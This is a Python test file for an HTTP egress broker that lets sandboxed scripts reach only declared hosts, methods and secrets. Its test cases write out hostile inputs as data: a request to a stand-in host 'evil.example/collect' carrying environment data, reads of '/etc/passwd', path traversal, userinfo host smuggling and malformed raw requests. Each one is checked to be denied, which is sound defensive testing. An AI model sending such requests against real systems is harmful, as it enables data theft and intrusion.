"""What the broker lets out, what it keeps to itself, and what it writes down."""

import http.client
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from cockpit.architect.broker import Answer, Broker, Live, Recorded, Request, denied
from cockpit.core.script import Capabilities
from cockpit.core.trace import Fetch
from tests.families.blobs import Blobs

MAY = Capabilities(
    hosts=("api.local", "files.local/public/*", "port.local:8443"),
    methods=("GET",),
    secrets=("TOKEN@api.local",),
)


@pytest.fixture
def origin():
    """A server that is every host, and what it was asked."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append((self.headers["Host"], self.path, dict(self.headers)))
            code, headers, body = 200, {}, b"hello"
            match self.path.split("?")[0]:
                case "/away":
                    code, headers = 302, {"Location": "http://evil.example/collect"}
                case "/near":
                    code, headers = 302, {"Location": "/plain"}
                case "/loop":
                    code, headers = 302, {"Location": "/loop"}
                case "/large":
                    body = b"x" * 50_000
                case "/echo":
                    body = self.headers.get("Authorization", "").encode()
            self.send_response(code)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    server.seen = seen
    yield server
    server.shutdown()
    server.server_close()


def live(origin, **changes) -> Live:
    known = {"private": frozenset({"api.local", "files.local"})}
    return Live(
        MAY,
        resolve=lambda _host, _port: ("127.0.0.1", origin.server_address[1]),
        secrets=lambda name, host: (
            "s3cret-value" if (name, host) == ("TOKEN", "api.local") else None
        ),
        **(known | changes),
    )


def ask(path, method: str, url: str, headers=None, body=None):
    connection = http.client.HTTPConnection("broker")
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.connect(str(path))
    connection.request(method, url, body, headers or {})
    answer = connection.getresponse()
    return answer.status, answer.read(), dict(answer.getheaders())


def test_what_is_declared_is_asked_and_written_down(origin, tmp_path):
    world = live(origin)
    with Broker(tmp_path / "b", world) as broker:
        status, body, _ = ask(broker.path, "GET", "http://api.local/plain?a=1")
    assert (status, body) == (200, b"hello")
    assert [(one.method, one.url, one.word) for one in broker.asked] == [
        ("GET", "http://api.local/plain?a=1", "")
    ]
    blobs = Blobs()
    (fetch,) = world.fetches(blobs)
    assert (fetch.url, blobs.get(fetch.body)) == ("http://api.local/plain?a=1", b"hello")
    assert not (tmp_path / "b").exists()


@pytest.mark.parametrize(
    ("method", "url", "why"),
    [
        ("GET", "http://evil.example/", "evil.example/ is not declared"),
        ("POST", "http://api.local/plain", "POST is not declared"),
        ("GET", "http://files.local/private/x", "files.local/private/x is not declared"),
        (
            "GET",
            "http://files.local/public/../private/x",
            "http://files.local/public/../private/x goes up in its path",
        ),
        (
            "GET",
            "http://files.local/public/%2e%2e/x",
            "http://files.local/public/%2e%2e/x goes up in its path",
        ),
        ("GET", "http://port.local/x", "port.local/x is not declared"),
        ("GET", "http://api.local@evil.example/", "an address with a password in it is not asked"),
        ("GET", "http://api.local.evil.example/", "api.local.evil.example/ is not declared"),
        ("GET", "file:///etc/passwd", "file:///etc/passwd is no address of the web"),
        ("GET", "/etc/passwd", "/etc/passwd is no address of the web"),
        ("CONNECT", "http://api.local/", "CONNECT is not declared"),
        ("GET", "http://API.local/x", ""),
        ("GET", "http://files.local/public/a/b", ""),
    ],
)
def test_what_is_not_declared_is_denied(method, url, why):
    assert denied(method, url, MAY) == why


def test_a_denial_reaches_nobody(origin, tmp_path):
    with Broker(tmp_path / "b", live(origin)) as broker:
        status, _, headers = ask(broker.path, "GET", "http://evil.example/collect?d=ENV")
    assert status == 403
    assert headers["X-Cockpit-Denied"] == "evil.example/collect is not declared"
    assert not origin.seen
    assert broker.asked[0].word == "denied"


def test_a_redirect_is_judged_again(origin):
    world = live(origin)
    assert world(Request("GET", "http://api.local/away")).word == "denied"
    assert [host for host, _, _ in origin.seen] == ["api.local"]
    assert world(Request("GET", "http://api.local/near")).body == b"hello"
    assert world(Request("GET", "http://api.local/loop")).word == "unavailable"


def test_a_private_address_is_asked_only_where_runs_asked(origin):
    world = live(origin, private=frozenset())
    answer = world(Request("GET", "http://api.local/plain"))
    assert (answer.word, origin.seen) == ("denied", [])
    assert "private address 127.0.0.1" in answer.why


def test_a_secret_is_added_outside_and_comes_not_back(origin):
    world = live(origin)
    told = {"Authorization": "Bearer {{secret:TOKEN}}", "X-Strange": "1"}
    answer = world(Request("GET", "http://api.local/echo", told))
    _, _, headers = origin.seen[0]
    assert headers["Authorization"] == "Bearer s3cret-value"
    assert "X-Strange" not in headers
    assert answer.body == b"Bearer {{secret:TOKEN}}"
    assert "s3cret" not in str(world.taken)


@pytest.mark.parametrize(
    ("url", "headers"),
    [
        ("http://api.local/x?key={{secret:TOKEN}}", {}),
        ("http://files.local/public/x", {"Authorization": "{{secret:TOKEN}}"}),
        ("http://api.local/x", {"Authorization": "{{secret:OTHER}}"}),
    ],
)
def test_a_secret_goes_nowhere_else(origin, url, headers):
    assert live(origin)(Request("GET", url, headers)).word == "denied"
    assert not origin.seen


def test_a_redirect_gets_no_secret(origin):
    world = live(origin)
    world(Request("GET", "http://api.local/near", {"Authorization": "{{secret:TOKEN}}"}))
    assert "Authorization" not in origin.seen[1][2]


def test_size_is_bounded(origin):
    answer = live(origin, limit=10_000)(Request("GET", "http://api.local/large"))
    assert (answer.word, answer.why) == ("unavailable", "api.local sent more than 10000 bytes")


def test_nobody_there_is_unavailable_not_drift(tmp_path):
    world = Live(MAY, private=frozenset({"api.local"}), resolve=lambda _h, _p: ("127.0.0.1", 1))
    with Broker(tmp_path / "b", world) as broker:
        status, _, headers = ask(broker.path, "GET", "http://api.local/plain")
    assert status == 502
    assert headers["X-Cockpit-Unavailable"].startswith("api.local cannot be reached")


def test_replay_answers_from_the_record_only(tmp_path):
    blobs = Blobs()

    def fetch(url, status, body):
        return Fetch(method="GET", url=url, status=status, body=blobs.put(body))

    gone = Recorded([Fetch(method="GET", url="http://a/z", status=200, body="no such blob")], blobs)
    with Broker(tmp_path / "g", gone) as broker:
        assert ask(broker.path, "GET", "http://a/z")[0] == 502
        assert ask(broker.path, "GET", "http://a:notaport/z")[0] == 404
    record = Recorded(
        [
            fetch("http://a/x", 503, b"busy"),
            fetch("http://a/x", 200, b"one"),
            fetch("http://a/x", 200, b"two"),
        ],
        blobs,
    )
    assert record(Request("GET", "http://a/x")) == Answer(200, b"two")
    with Broker(tmp_path / "b", record) as broker:
        status, _, headers = ask(broker.path, "GET", "http://a/y")
    assert (status, "X-Cockpit-Unrecorded" in headers) == (404, True)


@pytest.mark.parametrize(
    "sent",
    [
        b"\r\n\r\n",
        b"nonsense\r\n\r\n",
        b"GET x HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n",
        b"A" * 100_000,
    ],
)
def test_nonsense_is_answered_and_the_broker_lives(origin, tmp_path, sent):
    with Broker(tmp_path / "b", live(origin)) as broker:
        with socket.socket(socket.AF_UNIX) as wire:
            wire.connect(str(broker.path))
            wire.sendall(sent)
            wire.shutdown(socket.SHUT_WR)
            assert wire.recv(12) == b"HTTP/1.1 403"
        assert ask(broker.path, "GET", "http://api.local/plain")[0] == 200
